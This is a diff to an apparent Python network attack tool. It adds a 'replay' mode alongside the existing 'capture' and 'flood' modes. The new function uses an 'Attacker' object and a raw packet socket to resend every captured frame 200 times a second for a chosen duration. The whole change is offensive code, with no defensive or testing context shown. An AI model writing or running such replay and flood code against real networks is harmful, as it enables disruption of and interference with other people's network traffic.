@@ -192,8 +192,22 @@ def flood(netdev, path, seconds):
     print(json.dumps(sent))
 
 
+def replay(netdev, path, seconds):
+    """What was seen, unaltered, 200 times a second."""
+    attacker = Attacker(netdev, path)
+    sender = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+    sender.bind((netdev, 0))
+    end = time.monotonic() + seconds
+    while time.monotonic() < end:
+        for d in attacker.seen:
+            sender.send(frame(d, attacker.mac, *attacker.replay(d)))
+            time.sleep(0.005)
+
+
 if __name__ == "__main__":
     if sys.argv[1] == "capture":
         capture(*sys.argv[2:5])
+    elif sys.argv[1] == "replay":
+        replay(sys.argv[2], sys.argv[3], float(sys.argv[4]))
     else:
         flood(sys.argv[2], sys.argv[3], float(sys.argv[4]))
